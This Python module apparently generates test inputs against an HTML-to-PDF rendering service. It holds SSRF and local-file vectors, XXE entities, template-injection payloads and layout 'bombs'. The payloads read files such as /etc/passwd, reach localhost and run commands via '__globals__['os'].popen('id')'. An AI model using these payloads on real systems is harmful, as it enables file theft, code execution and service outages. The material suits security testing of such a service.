"""What somebody would write into a paper to make the press fetch a page, read a file or work for ever."""

import base64
import itertools


def reaching(http: str, file: str) -> list[str]:
    """HTML that asks for things outside: `http` is the address of a real server, `file` the path of a real picture."""
    path = file.removeprefix("file://")
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
    xxe = f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{file}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    page = f'<img src="{http}"><img src="{file}">'
    vectors = []
    for url in (
        http,
        file,
        path,
        http.upper().replace("/X", "/x"),
        f" \t{http} ",
        f"//{http.split('//')[1]}",
        "ftp://127.0.0.1/x",
    ):
        vectors += [
            f'<img src="{url}">',
            f'<object data="{url}"></object>',
            f'<embed src="{url}">',
            f'<iframe src="{url}"></iframe>',
        ]
    for url in (http, file):
        vectors += [
            f'<link rel="stylesheet" href="{url}">',
            f'<link rel=attachment href="{url}">',
            f'<link rel="stylesheet attachment" type="text/css" href="{url}" title="a">',
            f'<a rel=attachment href="{url}">甲</a>',
            f'<a href="{url}" download>甲</a>',
            f"<style>@import '{url}';</style>",
            f"<style>@import url({url}) print;</style>",
            f"<style>@font-face {{ font-family: 甲; src: url({url}) }} p {{ font-family: 甲 }}</style>",
            f"<style>@page {{ background: url({url}) }}</style>",
            f"<style>@page {{ @top-left {{ content: url({url}) }} }}</style>",
            f"<style>p::before {{ content: url({url}) }}</style>",
            f"<style>li {{ list-style-image: url({url}) }}</style><ul><li>甲</ul>",
            f"<style>p {{ border-image: url({url}) 30 }}</style>",
            f"<style>p {{ mask-image: url({url}); cursor: url({url}); filter: url({url}) }}</style>",
            f"<style>@color-profile --x {{ src: url({url}) }} p {{ color: color(--x 1 0 0) }}</style>",
            f'<style>p {{ background: \\75\\72\\6c({url}) }} q {{ background: u\\rl("{url}") }}</style><q>甲</q>',
            f'<p style="background-image: url({url})">甲</p>',
            f'<p style="--x: url({url}); background: var(--x)">甲</p>',
            f'<p style="background: image-set(url({url}) 1x)">甲</p>',
            svg.format(f'<image href="{url}" width="9" height="9"/>'),
            svg.format(f'<image xlink:href="{url}" width="9" height="9"/>'),
            svg.format(f'<use href="{url}#a"/>'),
            svg.format(f'<use xlink:href="{url}"/>'),
            svg.format(f'<foreignObject width="99" height="99"><img src="{url}"/></foreignObject>'),
            svg.format(f"<style>@import '{url}';</style>"),
            svg.format(f'<rect width="9" height="9" fill="url({url}#a)" filter="url({url})"/>'),
            svg.format(f'<script href="{url}"/>'),
            f'<base href="{url}"><img src="x.png"><link rel=stylesheet href="x.css">',
            f'<img srcset="{url} 2x"><picture><source srcset="{url}"></picture>',
            f'<video poster="{url}" src="{url}"></video><audio src="{url}"></audio>',
            f'<meta http-equiv=refresh content="0;url={url}"><body background="{url}">',
            f'<table background="{url}"><tr><td background="{url}">甲</table>',
            f'<input type=image src="{url}"><button formaction="{url}">甲</button>',
            f'<script src="{url}"></script><script>fetch("{url}")</script>',
            f'<ImG SrC="{url}"><img/src="{url}"><img src={url}>',
            f'<img src="{url.replace("a", "&#97;").replace(":", "&colon;")}">',
            f'<img src="{url.replace("/", "&#x2F;")}">',
        ]
    wrapped = {
        "text/html": page,
        "image/svg+xml": svg.format(f'<image href="{file}"/><use href="{http}#a"/>'),
        "text/css": f"@import '{http}';",
    }
    for (kind, content), tag in itertools.product(
        (*wrapped.items(), ("image/svg+xml", xxe)), ("img src", "object data", "iframe src", "link rel=attachment href")
    ):
        packed = base64.b64encode(content.encode()).decode()
        vectors.append(f'<{tag}="data:{kind};base64,{packed}">')
    vectors += [xxe, f"<!DOCTYPE html [<!ENTITY x SYSTEM '{file}'>]><p>&x;</p>", f'<xi:include href="{file}" parse="text"/>']
    vectors += [
        f'<img src="press:../../{path}">',
        f'<img src="press:{path}">',
        f'<img src="press:{http}">',
        '<link rel=attachment href="press:ink">',
    ]
    vectors += [
        f'<img src="{file.replace("file://", "file://localhost")}">',
        f'<img src="file:{path}">',
        f'<img src="FILE://{path}">',
    ]
    vectors += [f'<img src="jar:{file}!/x">', '<img src="gopher://127.0.0.1:70/x">', '<link rel=attachment href="/etc/passwd">']
    return vectors


EVALUATED = [
    "{{7*7}}",
    "{{7*'7'}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{%print(7*7)%}",
    "{{config}}",
    "{{self}}",
    "{{facts}}",
    "{{kind}}",
    "{#甲#}",
]
_ROOTS = ("''", "()", "[]", "facts", "kind", "self", "cycler", "joiner", "namespace", "lipsum", "range", "dict")
_TAILS = (
    ".__class__",
    ".__class__.__mro__[1].__subclasses__()",
    "|attr('__class__')",
    "['__cl'~'ass__']",
    ".__init__.__globals__",
    ".__init__.__globals__['os'].popen('id').read()",
    "|attr('\\x5f\\x5fclass\\x5f\\x5f')",
    "|string|list",
)
_BLOCKS = (
    "{% import 'papers/_parts.html' as p %}",
    "{% include '/etc/passwd' %}",
    "{% include 'papers/_paper.html' %}",
    "{% extends 'base.html' %}",
    "{% raw %}",
    "{% endraw %}",
    "{% set x = 7*7 %}{{ x }}",
    "{% for c in ().__class__.__mro__ %}{{ c }}{% endfor %}",
    "{% if 7*7 == 49 %}jinjaran{% endif %}",
)
TEMPLATES = [*EVALUATED, *_BLOCKS, *(f"{{{{{root}{tail}}}}}" for root in _ROOTS for tail in _TAILS)]

_STYLE = "<style>@page {{ size: 100pt }} {}</style>"
BOMBS = {
    "huge table": "<table>" + "<tr><td>甲<td>乙" * 15_000 + "</table>",
    "a table that reckons its widths": "<table style='table-layout:auto'>"
    + "<tr>"
    + "<td>甲乙 丙丁" * 300
    + "</table>" * 1
    + "<table>" * 60,
    "thousands of columns": "<table><tr>" + "<td>甲" * 20_000 + "</table>",
    "column spans": "<table>" + "<tr><td colspan=1000 rowspan=1000>甲" * 300 + "</table>",
    "deep nesting": "<div>" * 20_000,
    "deep inline nesting": "<b>" * 20_000 + "甲",
    "tables in tables": "<table><tr><td>" * 200 + "甲",
    "inline blocks in each other": "<span style='display:inline-block'>" * 40 + "甲",
    "flex in flex": "<div style='display:flex'>" * 24 + "甲",
    "grid in grid": "<div style='display:grid'>" * 14 + "甲",
    "floats in floats": "<div style='float:left'>" * 40 + "甲",
    "enormous type": "<p style='font-size:1e9pt'>" + "甲" * 200,
    "enormous margins": "<p style='margin:1e12pt 0'>甲</p>" * 50,
    "enormous height": "<div style='height:1e7pt'>甲</div>",
    "endless pages": "<div style='break-before:page'>甲</div>" * 20_000,
    "narrow page": _STYLE.format("p { font-size: 300pt }") + "<p>" + "甲" * 20_000,
    "giant words": "<p>" + "A" * 390_000,
    "many words": "<p>" + "A " * 190_000,
    "many lines": "<p>甲</p>" * 45_000,
    "many spans": "<p>" + "<span>甲</span>" * 25_000,
    "columns of text": "<div style='columns:500'>" + "<p>甲乙丙丁</p>" * 8_000 + "</div>",
    "footnotes": _STYLE.format("i { float: footnote }") + "<p>" + "甲<i>乙</i>" * 8_000,
    "selectors": "<style>"
    + "".join(f".a{n} * + * > * ~ *:not(.b):nth-child({n}n) {{ color: red }}" for n in range(1_000))
    + "</style>"
    + "<p>甲" * 3_000,
    "counters": "<style>p { counter-increment: a; } p::before { content: counters(a, '.') target-counter('#x', page) }</style>"
    + "<p>甲" * 8_000
    + "<p id=x>",
    "gradients": "<div style='height:90pt;background:repeating-linear-gradient(red, blue 0.0001px)'>甲</div>" * 500,
    "shadows of tiles": "<div style='height:1e5pt;background:linear-gradient(red,blue) 0 0/0.1pt 0.1pt'>甲</div>",
}
